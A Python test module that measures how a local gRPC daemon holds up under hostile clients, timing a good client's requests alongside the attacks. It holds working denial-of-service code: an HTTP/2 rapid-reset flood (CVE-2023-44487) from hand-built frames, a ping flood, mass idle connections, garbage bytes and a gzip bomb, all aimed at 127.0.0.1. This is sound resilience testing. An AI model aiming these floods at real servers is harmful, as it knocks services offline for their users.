"""What a hostile client does to the daemon's port, while a good client's requests are timed beside it.

    python -m tests.daemon.attacks ATTACK PORT SIZE

It is a process of its own, so that a good client waits for nothing but the daemon.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import struct
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import grpc
import numpy as np
import psutil

from tests.daemon.serving import CALL_SECONDS, digit_request

if TYPE_CHECKING:
    from collections.abc import Callable

    from numpy.typing import NDArray

    from tests.daemon.serving import Daemon

PATH = b"/jouled.v1.Classifier/Classify"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Types and flags of frames, RFC 9113.
HEADERS, RESET, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS = 4
# Frames that are sent at once.
FRAMES = 100
GOOD_PERIOD_SECONDS = 0.02
LEAST_REQUESTS = 50
MEBIBYTE = 1 << 20
TOP = Path(__file__).parents[2]


def _frame(kind: int, payload: bytes, *, stream: int = 0, flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _headers() -> bytes:
    """Begin a call: fields of the static table of RFC 7541, and literals that are not indexed."""
    names = ((b"\x04", PATH), (b"\x01", b"localhost"), (b"\x0f\x10", b"application/grpc"))
    return (
        b"\x83\x86" + b"".join(name + bytes([len(value)]) + value for name, value in names) + b"\x00\x02te\x08trailers"
    )


def _connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=CALL_SECONDS)


def _flood(port: int, frames: list[bytes]) -> None:
    """Send frames over connections, another one whenever the daemon closes one."""
    sent = 0
    while sent < len(frames):
        with _connect(port) as connection, contextlib.suppress(ConnectionError):
            connection.sendall(PREFACE + _frame(SETTINGS, b""))
            drain = threading.Thread(target=_drain, args=(connection,))
            drain.start()
            try:
                while sent < len(frames):
                    batch = frames[sent : sent + FRAMES]
                    sent += len(batch)
                    connection.sendall(b"".join(batch))
            finally:
                with contextlib.suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
                drain.join()


def _drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def rapid_reset(port: int, count: int) -> None:
    """Begin calls and reset each at once, CVE-2023-44487."""
    begin, reset = _headers(), struct.pack(">I", 8)
    _flood(
        port,
        [
            _frame(HEADERS, begin, stream=2 * number + 1, flags=END_HEADERS)
            + _frame(RESET, reset, stream=2 * number + 1)
            for number in range(count)
        ],
    )


def ping_flood(port: int, count: int) -> None:
    """Ask again and again whether the daemon is there."""
    _flood(port, [_frame(PING, bytes(8))] * count)


def idle_connections(port: int, count: int) -> None:
    """Hold connections on which nothing, or half a preface, is ever said."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with contextlib.ExitStack() as stack:
        for number in range(count):
            connection = stack.enter_context(_connect(port))
            if number % 2:
                connection.sendall(PREFACE[:10])


def garbage(port: int, count: int) -> None:
    """Send what is no protocol at all."""
    chance = np.random.default_rng(count)
    for _ in range(count):
        with _connect(port) as connection, contextlib.suppress(OSError):
            connection.sendall(chance.bytes(4096))


def gzip_bomb(port: int, count: int) -> None:
    """Send few bytes that become many; each is refused."""
    with grpc.insecure_channel(f"127.0.0.1:{port}", options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        call = channel.unary_unary(PATH.decode(), request_serializer=bytes, response_deserializer=bytes)
        for _ in range(count):
            try:
                call(bytes(64 * MEBIBYTE), timeout=CALL_SECONDS, compression=grpc.Compression.Gzip)
            except grpc.RpcError as error:
                assert error.code() is grpc.StatusCode.RESOURCE_EXHAUSTED, error  # noqa: PT017
            else:
                raise AssertionError("a message beyond the limit was taken")


class Attack(NamedTuple):
    """An attack, and how many connections, streams, frames or messages it is in full."""

    name: str
    run: Callable[[int, int], None]
    size: int


ATTACKS = (
    Attack("rapid reset", rapid_reset, 20_000),
    Attack("ping flood", ping_flood, 20_000),
    Attack("idle connections", idle_connections, 10_000),
    Attack("garbage", garbage, 1000),
    Attack("gzip bomb", gzip_bomb, 10),
)


@dataclass
class Survived:
    """What a good client saw meanwhile, and before, and the daemon's resident memory before and after, in bytes."""

    seconds: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    quiet_p99_seconds: float = 0.0
    before_bytes: int = 0
    after_bytes: int = 0

    @property
    def p99_seconds(self) -> float:
        """Give how long all but one of a hundred requests took at most."""
        return float(np.percentile(self.seconds, 99))


def survive(daemon: Daemon, image: NDArray[np.uint8], attack: Attack, size: int) -> Survived:
    """Attack, while a good client sends a request each 20 ms, some of them afterwards where the attack is short."""
    survived, process, over = Survived(), psutil.Process(daemon.process.pid), threading.Event()
    request = digit_request(image)
    quiet = []
    for _ in range(LEAST_REQUESTS):
        over.wait(GOOD_PERIOD_SECONDS)
        began = time.monotonic()
        daemon.classifier.Classify(request, timeout=CALL_SECONDS)
        quiet.append(time.monotonic() - began)
    survived.quiet_p99_seconds = float(np.percentile(quiet, 99))
    survived.before_bytes, descriptors = process.memory_info().rss, process.num_fds()

    def ask() -> None:
        while not (over.wait(GOOD_PERIOD_SECONDS) and len(survived.seconds) >= LEAST_REQUESTS):
            began = time.monotonic()
            try:
                daemon.classifier.Classify(request, timeout=CALL_SECONDS)
            except grpc.RpcError as error:
                survived.failures.append(error.code().name)
            survived.seconds.append(time.monotonic() - began)

    good = threading.Thread(target=ask)
    good.start()
    try:
        command = [sys.executable, "-m", "tests.daemon.attacks", attack.name, str(daemon.places.port), str(size)]
        subprocess.run(command, check=True, cwd=TOP)
    finally:
        over.set()
        good.join()
    wait_for_descriptors(process, descriptors)
    survived.after_bytes = process.memory_info().rss
    return survived


def wait_for_descriptors(process: psutil.Process, count: int) -> None:
    """Wait until a process has no more descriptors open than so many, for a while."""
    until, pause = time.monotonic() + CALL_SECONDS, threading.Event()
    while process.num_fds() > count and time.monotonic() < until:
        pause.wait(0.05)


if __name__ == "__main__":
    name, port, size = sys.argv[1:]
    next(attack for attack in ATTACKS if attack.name == name).run(int(port), int(size))
